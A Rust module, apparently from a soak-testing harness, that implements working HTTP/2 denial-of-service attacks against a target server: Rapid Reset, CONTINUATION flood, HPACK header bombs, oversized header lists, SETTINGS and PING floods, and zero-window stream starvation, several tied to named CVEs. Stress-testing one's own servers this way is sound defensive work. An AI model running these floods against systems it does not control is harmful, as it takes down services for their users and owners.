//! Attacks in HTTP/2: floods of frames, heads without end, and windows that stay closed.

use std::io;

use super::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, FIRST_KEPT, HEADERS, MAX_PAYLOAD_BYTES, PING,
    RST_STREAM, SETTINGS, closed_preface, field, frame, get, preface, stream,
};
use super::wire::{flood, send, until_cut};
use crate::soak::crowd::{Ending, Visit};
use crate::soak::target::HTTP2;

/// Pieces that one visit sends at the most, each of `BATCH` frames where frames are small.
const PIECES: u32 = 100;
const BATCH: u32 = 50;
/// Streams that are opened and left.
const STREAMS: u32 = 50;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// The most that the table keeps of one field (RFC 7541 §4.2), name and overhead left out.
const BOMB_BYTES: usize = 4000;

/// Requests that are given up at once, on and on (CVE-2023-44487).
pub async fn rapid_reset(visit: Visit) -> io::Result<Ending> {
    let secure = visit.target.secure(HTTP2).await?;
    let cold = visit.new_path("/slow/50/1024");
    let piece = move |number: u32| match number {
        0 => preface(),
        _ => batch((number - 1) * BATCH, |number| {
            let head = get(&format!("{cold}-{number}"));
            let open = frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &head);
            [open, frame(RST_STREAM, 0, stream(number), &CANCEL)].concat()
        }),
    };
    flood(secure, PIECES, piece).await
}

/// A head that never ends (CVE-2024-27316), in long frames or in empty ones.
pub async fn continuation_flood(mut visit: Visit) -> io::Result<Ending> {
    let secure = visit.target.secure(HTTP2).await?;
    let mut rest = Vec::new();
    if visit.rng.below(2) == 0 {
        field("x-more", &[b'x'; BOMB_BYTES], false, &mut rest);
    }
    let piece = move |number: u32| match number {
        0 => preface(),
        1 => frame(HEADERS, END_STREAM, 1, &get("/")),
        _ => batch(0, |_| frame(CONTINUATION, 0, 1, &rest)),
    };
    flood(secure, PIECES, piece).await
}

/// Heads that end, but have far more fields than allowed.
pub async fn huge_header_list(visit: Visit) -> io::Result<Ending> {
    let secure = visit.target.secure(HTTP2).await?;
    let mut head = get("/");
    (0..20).for_each(|n| field(&format!("x-{n}"), &[b'x'; BOMB_BYTES], false, &mut head));
    let piece = move |number: u32| match number {
        0 => preface(),
        _ => whole_head(stream(number), &head),
    };
    flood(secure, PIECES, piece).await
}

/// Heads of a few bytes that stand for megabytes: one long field, kept once and named often.
pub async fn header_bomb(visit: Visit) -> io::Result<Ending> {
    let secure = visit.target.secure(HTTP2).await?;
    let piece = move |number: u32| match number {
        0 => preface(),
        _ => {
            let mut head = get("/");
            field("x-bomb", &[b'x'; BOMB_BYTES], true, &mut head);
            head.resize(MAX_PAYLOAD_BYTES, FIRST_KEPT);
            frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &head)
        }
    };
    flood(secure, PIECES, piece).await
}

/// Settings that all want to be acknowledged (CVE-2019-9515).
pub async fn settings_flood(visit: Visit) -> io::Result<Ending> {
    let secure = visit.target.secure(HTTP2).await?;
    let piece = |number| match number {
        0 => preface(),
        _ => batch(0, |_| frame(SETTINGS, 0, 0, &[])),
    };
    flood(secure, PIECES, piece).await
}

/// Pings that all want to be answered (CVE-2019-9512).
pub async fn ping_flood(visit: Visit) -> io::Result<Ending> {
    flood(visit.target.secure(HTTP2).await?, PIECES, pings).await
}

/// The same by a client that reads no answer.
pub async fn deaf_ping_flood(visit: Visit) -> io::Result<Ending> {
    let mut secure = visit.target.secure(HTTP2).await?;
    for number in 0..PIECES * 10 {
        send(&mut secure, &pings(number)).await?;
    }
    Ok(Ending::Left)
}

/// Long answers, cold ones too, to which no window is ever opened.
pub async fn closed_windows(visit: Visit) -> io::Result<Ending> {
    let mut secure = visit.target.secure(HTTP2).await?;
    send(&mut secure, &closed_preface()).await?;
    let cold = visit.new_path("/text/50000");
    send(&mut secure, &batch(0, |number| ask(number, &format!("{cold}-{}", number % 4)))).await?;
    until_cut(&mut secure).await
}

/// Long answers that come as far as the first windows let them, and then nobody is there.
pub async fn leave_in_answers(visit: Visit) -> io::Result<Ending> {
    let secure = visit.target.secure(HTTP2).await?;
    let cold = visit.new_path("/text/300000");
    let piece = move |number| match number {
        0 => preface(),
        _ => ask(number, &format!("{cold}-{}", number % 4)),
    };
    flood(secure, STREAMS, piece).await
}

fn ask(number: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &get(path))
}

fn pings(number: u32) -> Vec<u8> {
    match number {
        0 => preface(),
        _ => batch(0, |number| frame(PING, 0, 0, &u64::from(number).to_be_bytes())),
    }
}

/// Frames numbered from `first` on, in one piece.
fn batch(first: u32, one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (first..first + BATCH).flat_map(one).collect()
}

/// A head in as many frames as it takes.
fn whole_head(stream: u32, head: &[u8]) -> Vec<u8> {
    let parts: Vec<&[u8]> = head.chunks(MAX_PAYLOAD_BYTES).collect();
    let frame_of = |(at, part): (usize, &&[u8])| {
        let end = if at + 1 == parts.len() { END_HEADERS } else { 0 };
        match at {
            0 => frame(HEADERS, END_STREAM | end, stream, part),
            _ => frame(CONTINUATION, end, stream, part),
        }
    };
    parts.iter().enumerate().flat_map(frame_of).collect()
}
